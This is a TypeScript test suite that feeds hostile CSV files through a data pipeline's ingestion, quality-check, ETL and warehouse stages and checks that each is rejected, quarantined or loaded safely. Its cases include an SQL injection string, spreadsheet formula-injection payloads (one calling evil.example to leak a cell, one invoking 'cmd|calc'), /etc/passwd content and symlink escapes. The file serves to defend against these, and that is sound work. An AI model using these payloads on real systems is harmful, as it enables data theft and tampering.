/**
 * Hostile CSV files through the real stages (ingestion -> quality-checks -> production-etl ->
 * warehouse, run in-process with real transactions on one PostgreSQL database, which is much
 * faster than a process per case). A good generated data set is loaded first; each case then
 * changes the raw files and runs the stages again. Outcomes:
 * - `rejected`: ingestion refuses the file with a message naming the file and the line;
 * - `quarantined`: the quality gate puts the row into pipeline.quarantine and closes;
 * - `loads`: the data goes through, exactly as written.
 * Whatever the outcome, nothing already committed to production or the warehouse is lost: for
 * rejected and quarantined sets their checksums are unchanged; a loaded set keeps every id, and
 * loading the good set again restores production exactly.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import {
  appendFileSync,
  chmodSync,
  cpSync,
  linkSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import pg from 'pg';
import { errorKind, stageOptionsOf, type PipelineStage } from '../../libs/kernel/index.js';
import analytics, { AnalyticsStage } from '@pipeline/plugin-analytics';
import dataGeneration, { DataGenerationStage } from '@pipeline/plugin-data-generation';
import ingestion, { IngestionStage } from '@pipeline/plugin-ingestion';
import productionEtl, { ProductionEtlStage } from '@pipeline/plugin-production-etl';
import qualityChecks, { QualityChecksStage } from '@pipeline/plugin-quality-checks';
import warehouse, { WarehouseStage } from '@pipeline/plugin-warehouse';
import { createTestBed, postgresUnavailable, type TestBed } from '@pipeline/kernel/testing';
import { recordFault } from './fault-log.js';
import { RUN_DATE, contentChecksums } from './harness.js';

type Files = Record<string, string>;
type Expected =
  | {
      kind: 'rejected';
      file: string;
      /** The path the error names, relative to the data folder, when it is not the file's. */
      path?: string;
      line: number | null;
      message?: RegExp;
      /** Retrying may help (the file was being written); every other rejection is permanent. */
      retryable?: boolean;
      /** Text of the input that the error (which leaves the process) must not quote. */
      unquoted?: string;
    }
  | { kind: 'quarantined'; table: string; check: RegExp }
  | {
      kind: 'loads';
      outcome: string;
      /** The file holds the good data in another form: production must come out the same. */
      same?: boolean;
      check?: (client: pg.Client, exported: (query: string) => Promise<string>) => Promise<void>;
    };

interface CsvCase {
  readonly name: string;
  /** Changes the raw folder; `files` holds the good files' text, `raw` is the folder. */
  readonly mutate: (files: Files, raw: string, data: string) => void;
  readonly expected: Expected;
  /** Runs alongside ingestion (the file replaced while it is read). */
  readonly during?: (raw: string, data: string) => Promise<void>;
  /** Runs when ingestion reaches this checkpoint (a file changed after it was opened). */
  readonly atCheckpoint?: { readonly point: string; readonly act: (raw: string) => void };
  /** Why the case cannot be staged on this machine, if it cannot. */
  readonly skip?: string | false;
}

/** Retries as configured by default (`pipeline.retry`): a fault that stays must be tried once. */
const CONFIG = { data_generation: { customers: 120, products: 60, transactions: 400 } };
const DEFAULT_ATTEMPTS = 3;
const STAGES: Array<new () => PipelineStage<never>> = [
  IngestionStage as never,
  QualityChecksStage as never,
  ProductionEtlStage as never,
  WarehouseStage as never,
];

const SQL_TEXT = "'); DROP TABLE staging.customers; --";
const WORLD = 'Zoë 🚀👩🏽‍💻 مرحبا שלום';
const CONTROL = 'Tab\there\u0007\u001b[31m';
/** The first line of /etc/passwd: the content of a file linked or copied in from elsewhere. */
const PASSWD = 'root:x:0:0:root:/root:/bin/bash';
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
const csvQuoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;

const lines = (text: string): string[] => text.split('\n');
/** Replaces field `column` (0-based) of data row `row` (1-based, after the header). */
function setField(text: string, row: number, column: number, value: string): string {
  const all = lines(text);
  const fields = all[row]!.split(',');
  fields[column] = value;
  all[row] = fields.join(',');
  return all.join('\n');
}
const field = (text: string, row: number, column: number): string => lines(text)[row]!.split(',')[column]!;
const write = (raw: string, file: string, text: string | Buffer): void =>
  writeFileSync(join(raw, file), text);

async function productionValue(client: pg.Client, sql: string, params: unknown[]): Promise<string> {
  const { rows } = await client.query<{ v: string }>(sql, params);
  return rows[0]?.v ?? '(none)';
}

/** The good generated files, read once the data set is generated. */
const good: Files = {};

const CASES: readonly CsvCase[] = [
  // --- ingestion refuses the file, naming file and line ---
  {
    name: 'missing file',
    mutate: (_f, raw) => rmSync(join(raw, 'products.csv')),
    expected: { kind: 'rejected', file: 'products.csv', line: null, message: /missing input file/ },
  },
  {
    name: 'missing header column',
    mutate: (f, raw) => write(raw, 'customers.csv', f['customers.csv']!.replace(',email,', ',')),
    expected: { kind: 'rejected', file: 'customers.csv', line: 1 },
  },
  {
    name: 'extra header column',
    mutate: (f, raw) =>
      write(raw, 'products.csv', f['products.csv']!.replace('supplier_id\n', 'supplier_id,colour\n')),
    expected: { kind: 'rejected', file: 'products.csv', line: 1 },
  },
  {
    name: 'duplicated header column',
    mutate: (f, raw) =>
      write(
        raw,
        'transactions.csv',
        f['transactions.csv']!.replace('total_amount\n', 'total_amount,payment_method\n'),
      ),
    expected: { kind: 'rejected', file: 'transactions.csv', line: 1 },
  },
  {
    name: 'quantity that is not a number',
    mutate: (f, raw) =>
      write(raw, 'transaction_items.csv', setField(f['transaction_items.csv']!, 5, 3, 'abc')),
    expected: { kind: 'rejected', file: 'transaction_items.csv', line: 6 },
  },
  {
    name: 'impossible date',
    mutate: (f, raw) => write(raw, 'transactions.csv', setField(f['transactions.csv']!, 3, 2, '2024-13-45')),
    expected: { kind: 'rejected', file: 'transactions.csv', line: 4 },
  },
  {
    name: 'bytes that are not UTF-8',
    mutate: (f, raw) =>
      write(
        raw,
        'customers.csv',
        Buffer.concat([
          Buffer.from(lines(f['customers.csv']!).slice(0, 3).join('\n') + '\nX'),
          Buffer.from([0xff]),
          Buffer.from(lines(f['customers.csv']!).slice(3).join('\n')),
        ]),
      ),
    expected: { kind: 'rejected', file: 'customers.csv', line: 4 },
  },
  {
    name: 'header without rows',
    mutate: (f, raw) => write(raw, 'products.csv', lines(f['products.csv']!)[0] + '\n'),
    expected: { kind: 'rejected', file: 'products.csv', line: 2 },
  },
  {
    name: 'empty file (0 bytes)',
    mutate: (_f, raw) => write(raw, 'transactions.csv', ''),
    expected: { kind: 'rejected', file: 'transactions.csv', line: 1 },
  },
  {
    name: '1-byte file',
    mutate: (_f, raw) => write(raw, 'customers.csv', 'c'),
    expected: { kind: 'rejected', file: 'customers.csv', line: 1 },
  },
  {
    name: 'row with a column too few',
    mutate: (f, raw) => {
      const a = lines(f['products.csv']!);
      a[2] = a[2]!.slice(0, a[2]!.lastIndexOf(','));
      write(raw, 'products.csv', a.join('\n'));
    },
    expected: { kind: 'rejected', file: 'products.csv', line: 3 },
  },
  {
    name: 'row with a column too many',
    mutate: (f, raw) => {
      const a = lines(f['transaction_items.csv']!);
      a[4] += ',9';
      write(raw, 'transaction_items.csv', a.join('\n'));
    },
    expected: { kind: 'rejected', file: 'transaction_items.csv', line: 5 },
  },
  {
    name: 'empty line between rows',
    mutate: (f, raw) => write(raw, 'customers.csv', f['customers.csv']!.replace(/\n/, '\n\n')),
    expected: { kind: 'rejected', file: 'customers.csv', line: 2 },
  },
  {
    name: 'quote never closed',
    mutate: (f, raw) => write(raw, 'customers.csv', setField(f['customers.csv']!, 7, 1, '"Never closed')),
    expected: { kind: 'rejected', file: 'customers.csv', line: 8 },
  },
  {
    name: 'CRLF and LF mixed',
    mutate: (f, raw) => {
      const a = lines(f['customers.csv']!);
      a[3] += '\r';
      write(raw, 'customers.csv', a.join('\n'));
    },
    expected: { kind: 'rejected', file: 'customers.csv', line: 4 },
  },
  {
    name: 'NUL byte in a name',
    mutate: (f, raw) => write(raw, 'customers.csv', setField(f['customers.csv']!, 2, 1, 'Ada\u0000Lovelace')),
    expected: { kind: 'rejected', file: 'customers.csv', line: 3 },
  },
  {
    name: 'symlink pointing outside the data folder',
    mutate: (f, raw) => {
      const outside = mkdtempSync(join(tmpdir(), 'outside-'));
      writeFileSync(join(outside, 'customers.csv'), f['customers.csv']!);
      rmSync(join(raw, 'customers.csv'));
      symlinkSync(join(outside, 'customers.csv'), join(raw, 'customers.csv'));
    },
    expected: { kind: 'rejected', file: 'customers.csv', line: null, message: /outside the data folder/ },
  },
  {
    name: 'named pipe (FIFO) as an input file',
    mutate: (_f, raw) => {
      rmSync(join(raw, 'customers.csv'));
      execFileSync('mkfifo', [join(raw, 'customers.csv')]);
    },
    expected: { kind: 'rejected', file: 'customers.csv', line: null, message: /it is a named pipe \(FIFO\)/ },
  },
  {
    name: 'socket as an input file',
    mutate: (_f, raw) => {
      rmSync(join(raw, 'products.csv'));
      createServer().listen(join(raw, 'products.csv')).unref();
    },
    expected: { kind: 'rejected', file: 'products.csv', line: null, message: /it is a socket/ },
  },
  {
    name: 'directory named like an input file',
    mutate: (_f, raw) => {
      rmSync(join(raw, 'transactions.csv'));
      mkdirSync(join(raw, 'transactions.csv'));
    },
    expected: { kind: 'rejected', file: 'transactions.csv', line: null, message: /it is a directory/ },
  },
  {
    name: 'symlink loop as an input (ln -s customers.csv customers.csv)',
    mutate: (_f, raw) => {
      rmSync(join(raw, 'customers.csv'));
      symlinkSync('customers.csv', join(raw, 'customers.csv'));
    },
    expected: {
      kind: 'rejected',
      file: 'customers.csv',
      line: null,
      message: /it is a loop of symbolic links \(ELOOP/,
    },
  },
  {
    name: 'raw/ is a regular file',
    mutate: (_f, _raw, data) => {
      rmSync(join(data, 'raw'), { recursive: true });
      writeFileSync(join(data, 'raw'), 'not a folder\n');
    },
    expected: {
      kind: 'rejected',
      file: 'raw',
      path: 'raw',
      line: null,
      message: /refused, it is a regular file, not a folder/,
    },
  },
  {
    name: "the date's input folder is a regular file",
    mutate: (_f, raw) => {
      rmSync(raw, { recursive: true });
      writeFileSync(raw, 'not a folder\n');
    },
    expected: {
      kind: 'rejected',
      file: RUN_DATE,
      path: join('raw', RUN_DATE),
      line: null,
      message: /refused, it is a regular file, not a folder/,
    },
  },
  {
    name: 'unreadable input (mode 000)',
    // Root reads a file whatever its mode: there is no unreadable file to stage.
    skip: process.getuid?.() === 0 && 'runs as root, who reads a file of mode 000 all the same',
    mutate: (_f, raw) => chmodSync(join(raw, 'products.csv'), 0o000),
    expected: { kind: 'rejected', file: 'products.csv', line: null, message: /EACCES: permission denied/ },
  },
  {
    name: 'symlink to a directory inside the data folder',
    mutate: (_f, raw, data) => {
      mkdirSync(join(data, 'a-folder'), { recursive: true });
      rmSync(join(raw, 'transaction_items.csv'));
      symlinkSync(join(data, 'a-folder'), join(raw, 'transaction_items.csv'));
    },
    expected: { kind: 'rejected', file: 'transaction_items.csv', line: null, message: /it is a directory/ },
  },
  {
    name: 'hard link to a file outside the data folder (ln /etc/passwd raw/customers.csv)',
    mutate: (_f, raw) => {
      const outside = join(mkdtempSync(join(tmpdir(), 'outside-')), 'passwd');
      writeFileSync(outside, `${PASSWD}\n`);
      rmSync(join(raw, 'customers.csv'));
      linkSync(outside, join(raw, 'customers.csv'));
    },
    expected: {
      kind: 'rejected',
      file: 'customers.csv',
      line: null,
      message: /it has 2 hard links/,
      unquoted: 'root:x:0:0',
    },
  },
  {
    name: "another file's content as an input (the error quotes at most 10 characters of it)",
    mutate: (_f, raw) => write(raw, 'customers.csv', `${PASSWD}\ndaemon:x:1:1:daemon:/usr/sbin:/bin/false\n`),
    expected: {
      kind: 'rejected',
      file: 'customers.csv',
      line: 1,
      message: /unexpected column "root:x:0:0…"/,
      unquoted: 'root:x:0:0:',
    },
  },
  {
    name: 'a secret-looking value in a date column (the error quotes an escaped excerpt)',
    mutate: (f, raw) =>
      write(raw, 'transactions.csv', setField(f['transactions.csv']!, 2, 2, 'hunter2\u001bsecret-token')),
    expected: {
      kind: 'rejected',
      file: 'transactions.csv',
      line: 3,
      message: /column transaction_date: invalid input syntax for type date: "hunter2\\x1bse…"/,
      unquoted: 'secret-token',
    },
  },
  {
    name: 'bare CR line ends (classic Mac OS) after the header',
    mutate: (f, raw) => {
      const [header, ...rows] = lines(f['customers.csv']!);
      write(raw, 'customers.csv', `${header}\n${rows.join('\r')}`);
    },
    expected: {
      kind: 'rejected',
      file: 'customers.csv',
      line: 2,
      message: /carriage return \(CR\) without a line feed/,
    },
  },
  {
    name: 'one bare CR ending a line in the middle of the file',
    mutate: (f, raw) => {
      const a = lines(f['products.csv']!);
      a[5] = `${a[5]}\r${a[6]}`;
      a.splice(6, 1);
      write(raw, 'products.csv', a.join('\n'));
    },
    expected: {
      kind: 'rejected',
      file: 'products.csv',
      line: 6,
      message: /carriage return \(CR\) without a line feed/,
    },
  },
  {
    name: 'bare CR line ends throughout, header included',
    mutate: (f, raw) =>
      write(raw, 'transaction_items.csv', f['transaction_items.csv']!.replaceAll('\n', '\r')),
    expected: { kind: 'rejected', file: 'transaction_items.csv', line: 1, message: /carriage return/ },
  },
  {
    name: 'file rewritten in place (same size) after ingestion opened it',
    mutate: () => undefined,
    atCheckpoint: {
      point: 'ingestion:opened',
      act: (raw) =>
        writeFileSync(
          join(raw, 'customers.csv'),
          readFileSync(join(raw, 'customers.csv'), 'utf8').replace('CUST', 'CUSX'),
        ),
    },
    expected: {
      kind: 'rejected',
      file: 'customers.csv',
      line: null,
      message: /changed while it was read \(modified\)/,
      retryable: true,
    },
  },
  {
    name: 'file appended to while ingestion reads it',
    mutate: () => undefined,
    atCheckpoint: {
      point: 'ingestion:opened',
      act: (raw) =>
        appendFileSync(
          join(raw, 'transaction_items.csv'),
          readFileSync(join(raw, 'transaction_items.csv'), 'utf8').split('\n')[1] + '\n',
        ),
    },
    expected: {
      kind: 'rejected',
      file: 'transaction_items.csv',
      line: null,
      message: /changed while it was read \(size \d+ -> \d+ bytes, modified\)/,
      retryable: true,
    },
  },
  {
    name: 'file truncated while ingestion reads it',
    mutate: () => undefined,
    atCheckpoint: { point: 'ingestion:opened', act: (raw) => truncateSync(join(raw, 'products.csv'), 200) },
    expected: {
      kind: 'rejected',
      file: 'products.csv',
      line: null,
      message: /changed while it was read \(size \d+ -> 200 bytes, modified\)/,
      retryable: true,
    },
  },
  // --- the quality gate quarantines the row and closes ---
  {
    name: 'duplicate customer id',
    mutate: (f, raw) => {
      const a = lines(f['customers.csv']!);
      a.splice(3, 0, a[2]!);
      write(raw, 'customers.csv', a.join('\n'));
    },
    expected: { kind: 'quarantined', table: 'customers', check: /duplicate/ },
  },
  {
    name: 'duplicate transaction item id',
    mutate: (f, raw) => {
      const a = lines(f['transaction_items.csv']!);
      a.splice(2, 0, a[1]!);
      write(raw, 'transaction_items.csv', a.join('\n'));
    },
    expected: { kind: 'quarantined', table: 'transaction_items', check: /duplicate/ },
  },
  {
    name: 'orphan customer id in a transaction',
    mutate: (f, raw) => write(raw, 'transactions.csv', setField(f['transactions.csv']!, 2, 1, 'CUST99999')),
    expected: { kind: 'quarantined', table: 'transactions', check: /orphan|referential|customer/ },
  },
  {
    name: 'orphan product id in an item',
    mutate: (f, raw) =>
      write(raw, 'transaction_items.csv', setField(f['transaction_items.csv']!, 2, 2, 'PROD99999')),
    expected: { kind: 'quarantined', table: 'transaction_items', check: /orphan|referential|product/ },
  },
  {
    name: 'negative quantity',
    mutate: (f, raw) =>
      write(raw, 'transaction_items.csv', setField(f['transaction_items.csv']!, 3, 3, '-2')),
    expected: { kind: 'quarantined', table: 'transaction_items', check: /quantity|range|positive/ },
  },
  // --- loads, exactly as written ---
  {
    name: "SQL text in a name and a city ('); DROP TABLE ...)",
    mutate: (f, raw) =>
      write(
        raw,
        'customers.csv',
        setField(setField(f['customers.csv']!, 1, 2, `"${SQL_TEXT}"`), 1, 6, `"${SQL_TEXT}"`),
      ),
    expected: {
      kind: 'loads',
      outcome:
        'loaded; the city arrives in production byte for byte, last_name initcapped (documented cleansing); no SQL ran',
      check: async (c) => {
        // city is only trimmed: it arrives byte for byte; last_name gets the documented initcap.
        assert.equal(
          await productionValue(
            c,
            `SELECT city AS v FROM production.customers WHERE city LIKE '%DROP TABLE%'`,
            [],
          ),
          SQL_TEXT,
        );
        assert.equal(
          await productionValue(
            c,
            `SELECT last_name AS v FROM production.customers WHERE city LIKE '%DROP TABLE%'`,
            [],
          ),
          await productionValue(c, `SELECT initcap($1) AS v`, [SQL_TEXT]),
        );
        assert.equal(
          await productionValue(c, `SELECT to_regclass('staging.customers')::text AS v`, []),
          'staging.customers',
        );
      },
    },
  },
  {
    name: 'emoji and right-to-left text in names and city',
    mutate: (f, raw) =>
      write(raw, 'customers.csv', setField(setField(f['customers.csv']!, 2, 1, WORLD), 2, 6, 'תל אביב')),
    expected: {
      kind: 'loads',
      outcome: 'loaded; names and city round-trip exactly into production and dim_customers',
      check: async (c) => {
        assert.equal(
          await productionValue(c, `SELECT first_name AS v FROM production.customers WHERE first_name = $1`, [
            WORLD,
          ]),
          WORLD,
        );
        assert.equal(
          await productionValue(c, `SELECT city AS v FROM production.customers WHERE first_name = $1`, [
            WORLD,
          ]),
          'תל אביב',
        );
        assert.match(
          await productionValue(
            c,
            `SELECT full_name AS v FROM warehouse.dim_customers WHERE is_current AND full_name LIKE $1`,
            [`${WORLD}%`],
          ),
          /^Zoë 🚀/,
        );
      },
    },
  },
  {
    name: 'control characters (tab, bell, escape) in a quoted name and city',
    mutate: (f, raw) =>
      write(
        raw,
        'customers.csv',
        setField(setField(f['customers.csv']!, 4, 1, `"${CONTROL}"`), 4, 6, `"${CONTROL}"`),
      ),
    expected: {
      kind: 'loads',
      outcome: 'loaded; the city arrives byte for byte, first_name initcapped (documented cleansing)',
      check: async (c) => {
        assert.equal(
          await productionValue(c, `SELECT city AS v FROM production.customers WHERE city LIKE 'Tab%'`, []),
          CONTROL,
        );
        assert.equal(
          await productionValue(
            c,
            `SELECT first_name AS v FROM production.customers WHERE city LIKE 'Tab%'`,
            [],
          ),
          await productionValue(c, `SELECT initcap($1) AS v`, [CONTROL]),
        );
      },
    },
  },
  {
    name: 'a 10 MB field',
    mutate: (f, raw) =>
      write(raw, 'products.csv', setField(f['products.csv']!, 1, 6, 'B'.repeat(10 * 1024 * 1024))),
    expected: {
      kind: 'loads',
      outcome: 'loaded; the 10 MB brand arrives whole in production',
      check: async (c) => {
        assert.equal(
          await productionValue(
            c,
            `SELECT length(brand)::text AS v FROM production.products ORDER BY length(brand) DESC LIMIT 1`,
            [],
          ),
          String(10 * 1024 * 1024),
        );
      },
    },
  },
  {
    name: 'spreadsheet formula in a product name (=HYPERLINK(...))',
    mutate: (f, raw) => write(raw, 'products.csv', setField(f['products.csv']!, 1, 1, csvQuoted(FORMULA))),
    expected: {
      kind: 'loads',
      outcome: `loaded as written; the analytics exports neutralise it: "'${FORMULA}" (OWASP)`,
      check: async (c, exported) => {
        assert.equal(
          await productionValue(
            c,
            `SELECT product_name AS v FROM production.products WHERE product_name = $1`,
            [FORMULA],
          ),
          FORMULA,
        );
        const text = await exported('query8_product_profitability');
        assert.ok(text.includes(csvQuoted(`'${FORMULA}`)), text.slice(0, 400));
        assert.ok(!/(^|,)=HYPERLINK/m.test(text), 'no cell starts with the formula');
      },
    },
  },
  {
    name: 'formulas starting with +, - and @ in product names and a brand',
    mutate: (f, raw) => {
      let text = setField(f['products.csv']!, 2, 1, '+1+cmd|calc');
      text = setField(text, 3, 1, '-2+3');
      text = setField(text, 4, 6, '@SUM(A1:A9)');
      write(raw, 'products.csv', text);
    },
    expected: {
      kind: 'loads',
      outcome: "loaded as written; exported as '+1+cmd|calc, '-2+3 and '@SUM(A1:A9)",
      check: async (_c, exported) => {
        const text = await exported('query8_product_profitability');
        for (const value of ["'+1+cmd|calc", "'-2+3", "'@SUM(A1:A9)"])
          assert.ok(text.includes(`,${value},`), value);
        // Numbers keep their sign: a negative profit is no formula.
        assert.ok(!/(^|,)[+@=]/m.test(text) && !/(^|,)-[^0-9]/m.test(text), text.slice(0, 400));
      },
    },
  },
  {
    name: 'a city starting with a tab and one starting with =',
    mutate: (f, raw) =>
      write(raw, 'customers.csv', setField(setField(f['customers.csv']!, 1, 6, '"\t=1+1"'), 2, 6, '=2+2')),
    expected: {
      kind: 'loads',
      outcome: "loaded as written; the customer export shows them as '\\t=1+1 and '=2+2",
      check: async (_c, exported) => {
        const text = await exported('query7_customer_lifetime_value');
        assert.ok(text.includes(",'\t=1+1,") && text.includes(",'=2+2,"), text.slice(0, 400));
      },
    },
  },
  {
    name: 'trailing blank lines',
    mutate: (f, raw) => write(raw, 'transactions.csv', f['transactions.csv']!.replace(/\n*$/, '\n\n\n\n')),
    expected: { kind: 'loads', outcome: 'loaded; the same rows as without the blank lines', same: true },
  },
  {
    name: 'BOM and CRLF throughout',
    mutate: (f, raw) =>
      write(
        raw,
        'products.csv',
        '\ufeff' + f['products.csv']!.replace(/\n*$/, '\n').replaceAll('\n', '\r\n'),
      ),
    expected: { kind: 'loads', outcome: 'loaded; the same rows as the plain file', same: true },
  },
  {
    name: 'file replaced (renamed over) while ingestion reads it',
    mutate: (f, _raw, data) =>
      writeFileSync(join(data, 'replacement.csv'), setField(f['customers.csv']!, 1, 1, 'Replaced')),
    during: async (raw, data) => {
      await new Promise((r) => setTimeout(r, 5));
      renameSync(join(data, 'replacement.csv'), join(raw, 'customers.csv'));
    },
    expected: {
      kind: 'loads',
      outcome: 'loaded one whole version of the file (read through one open handle), never a mix',
      check: async (c) => {
        // One version, whole: the stage reads through one open file handle, so a rename over the
        // path either happened before the open (new file) or does not reach it (old file).
        const { rows } = await c.query<{ n: string; replaced: string; original: string }>(
          `SELECT count(*)::text AS n, count(*) FILTER (WHERE first_name = 'Replaced')::text AS replaced,
                  count(*) FILTER (WHERE customer_id = $1 AND first_name = $2)::text AS original
           FROM staging.customers`,
          [field(good['customers.csv']!, 1, 0), field(good['customers.csv']!, 1, 1)],
        );
        assert.equal(rows[0]!.n, String(lines(good['customers.csv']!.trimEnd()).length - 1));
        assert.equal(Number(rows[0]!.replaced) + Number(rows[0]!.original), 1, JSON.stringify(rows[0]));
      },
    },
  },
];

describe(
  'hostile CSV files through ingestion, the quality gate, production and the warehouse',
  { skip: await postgresUnavailable() },
  () => {
    let test: TestBed;
    let client: pg.Client;
    const data = mkdtempSync(join(tmpdir(), 'hostile-csv-'));
    const raw = join(data, 'raw', RUN_DATE);
    const pristine = mkdtempSync(join(tmpdir(), 'hostile-csv-good-'));
    let goodProduction: Record<string, string>;

    /** How the stages failed; `kind` when a stage was called directly, `attempts` through the kernel. */
    interface Failure {
      stage: string;
      error: string;
      kind: string | null;
      attempts: number | null;
    }

    async function runStages(
      during?: () => Promise<void>,
      atCheckpoint?: CsvCase['atCheckpoint'],
    ): Promise<Failure | null> {
      for (const Stage of STAGES) {
        const stage = new Stage();
        const options = stageOptionsOf(Stage)!;
        // Ingestion goes through the kernel, with its retries, unless the case acts at a checkpoint.
        if (Stage === (IngestionStage as never) && !atCheckpoint) {
          const [outcome] = await Promise.all([
            test.runStage(options.name, { config: CONFIG, runDate: RUN_DATE, dataDir: data }),
            during?.(),
          ]);
          if (outcome.status === 'succeeded') continue;
          return { stage: options.name, error: outcome.error ?? '', kind: null, attempts: outcome.attempts };
        }
        const ctx = test.context(options.name, {
          config: CONFIG,
          runDate: RUN_DATE,
          dataDir: data,
        });
        const checkpoint = async (point: string): Promise<void> => {
          if (point === atCheckpoint?.point) atCheckpoint.act(raw);
        };
        try {
          await Promise.all([
            stage.run({ ...ctx, checkpoint } as never),
            Stage === (IngestionStage as never) && during ? during() : undefined,
          ]);
        } catch (error) {
          return {
            stage: options.name,
            error: (error as Error).message,
            kind: errorKind(error),
            attempts: null,
          };
        }
      }
      return null;
    }

    /** Runs the analytics stage on what the stages loaded; the text of one of its exports. */
    async function exported(query: string): Promise<string> {
      const ctx = test.context(stageOptionsOf(AnalyticsStage)!.name, {
        config: CONFIG,
        runDate: RUN_DATE,
        dataDir: data,
      });
      await new AnalyticsStage().run(ctx as never);
      return readFileSync(join(ctx.paths.own, `${query}.csv`), 'utf8');
    }

    function restoreRaw(): void {
      rmSync(join(data, 'raw'), { recursive: true, force: true });
      cpSync(pristine, raw, { recursive: true });
    }

    before(async () => {
      test = await createTestBed({
        plugins: [dataGeneration, ingestion, qualityChecks, productionEtl, warehouse, analytics],
        database: 'postgres',
      });
      client = new pg.Client({ connectionString: test.url! });
      await client.connect();
      const generation = new DataGenerationStage();
      await generation.run(
        test.context(stageOptionsOf(DataGenerationStage)!.name, {
          config: CONFIG,
          runDate: RUN_DATE,
          dataDir: data,
        }) as never,
      );
      cpSync(raw, pristine, { recursive: true });
      for (const file of ['customers.csv', 'products.csv', 'transactions.csv', 'transaction_items.csv'])
        good[file] = readFileSync(join(raw, file), 'utf8');
      assert.equal(await runStages(), null, 'the good data set loads');
      goodProduction = await contentChecksums(client, ['production']);
    });

    after(async () => {
      await client?.end();
      await test?.dispose();
    });

    for (const c of CASES) {
      const expectation =
        c.expected.kind === 'rejected'
          ? `rejected naming ${c.expected.file}${c.expected.line ? ` line ${c.expected.line}` : ''}${c.expected.retryable ? '' : ', tried once'}`
          : c.expected.kind === 'quarantined'
            ? `quarantined in staging.${c.expected.table}`
            : 'loads';
      it(`${c.name}: ${expectation}; nothing committed is lost`, { skip: c.skip }, async () => {
        restoreRaw();
        const before = await contentChecksums(client, ['production', 'warehouse']);
        const ids = await committedIds(client);
        c.mutate(good, raw, data);
        const started = Date.now();
        const failure = await runStages(c.during ? () => c.during!(raw, data) : undefined, c.atCheckpoint);
        const seconds = (Date.now() - started) / 1000;
        let outcome: string;
        if (c.expected.kind === 'rejected') {
          assert.ok(failure, 'the run failed');
          assert.equal(failure.stage, 'ingestion', failure.error);
          const named = join(data, c.expected.path ?? join('raw', RUN_DATE, c.expected.file));
          assert.ok(failure.error.includes(named), `names ${named}: ${failure.error}`);
          if (c.expected.line !== null)
            assert.match(failure.error, new RegExp(`line ${c.expected.line}\\b`), failure.error);
          if (c.expected.message) assert.match(failure.error, c.expected.message);
          // Not retried unless the world may change: a file being written. Never waited on.
          const kind = c.expected.retryable ? 'retryable' : 'permanent';
          if (failure.kind !== null) assert.equal(failure.kind, kind, failure.error);
          if (failure.attempts !== null)
            assert.equal(failure.attempts, kind === 'permanent' ? 1 : DEFAULT_ATTEMPTS, failure.error);
          assert.ok(seconds < 20, `refused within seconds, not after ${seconds} s`);
          if (c.expected.unquoted) assert.ok(!failure.error.includes(c.expected.unquoted), failure.error);
          assert.deepEqual(await contentChecksums(client, ['production', 'warehouse']), before);
          const tries =
            failure.attempts === null ? '' : `, ${failure.attempts} attempt of ${DEFAULT_ATTEMPTS}`;
          outcome = `rejected (${kind}${tries}): ${failure.error.replaceAll(data + '/', '').slice(0, 140)}`;
        } else if (c.expected.kind === 'quarantined') {
          assert.ok(failure, 'the quality gate closed');
          assert.equal(failure.stage, 'quality-checks', failure.error);
          const { rows } = await client.query<{ check_name: string; row_id: string }>(
            `SELECT check_name, row_id FROM pipeline.quarantine WHERE table_name = $1 ORDER BY id DESC`,
            [`staging.${c.expected.table}`],
          );
          assert.ok(
            rows.some((r) => c.expected.kind === 'quarantined' && c.expected.check.test(r.check_name)),
            JSON.stringify(rows.slice(0, 5)),
          );
          assert.deepEqual(await contentChecksums(client, ['production', 'warehouse']), before);
          await client.query('DELETE FROM pipeline.quarantine');
          outcome = `quarantined (${[...new Set(rows.map((r) => r.check_name))].sort().join(', ')}); gate closed`;
        } else {
          assert.equal(failure, null, failure?.error);
          await c.expected.check?.(client, exported);
          if (c.expected.same)
            assert.deepEqual(await contentChecksums(client, ['production']), goodProduction);
          const after = await committedIds(client);
          for (const [table, list] of Object.entries(ids))
            assert.deepEqual(
              list.filter((id) => !after[table]!.includes(id)),
              [],
              `no ${table} id lost`,
            );
          // Loading the good files again puts production back exactly.
          restoreRaw();
          assert.equal(await runStages(), null);
          assert.deepEqual(await contentChecksums(client, ['production']), goodProduction);
          outcome = c.expected.outcome;
        }
        recordFault({
          suite: 'hostile CSV',
          fault: c.name,
          outcome,
          lost:
            c.expected.kind === 'loads'
              ? 'nothing: every id kept; reloading the good set restores production'
              : 'nothing: production and warehouse checksums unchanged',
        });
      });
    }
  },
);

async function committedIds(client: pg.Client): Promise<Record<string, string[]>> {
  const ids: Record<string, string[]> = {};
  for (const [table, column] of [
    ['production.customers', 'customer_id'],
    ['production.products', 'product_id'],
    ['production.transactions', 'transaction_id'],
    ['production.transaction_items', 'item_id'],
    ['warehouse.fact_sales', 'item_id'],
  ] as const) {
    const { rows } = await client.query<{ id: string }>(`SELECT ${column} AS id FROM ${table}`);
    ids[table] = rows.map((r) => r.id);
  }
  return ids;
}
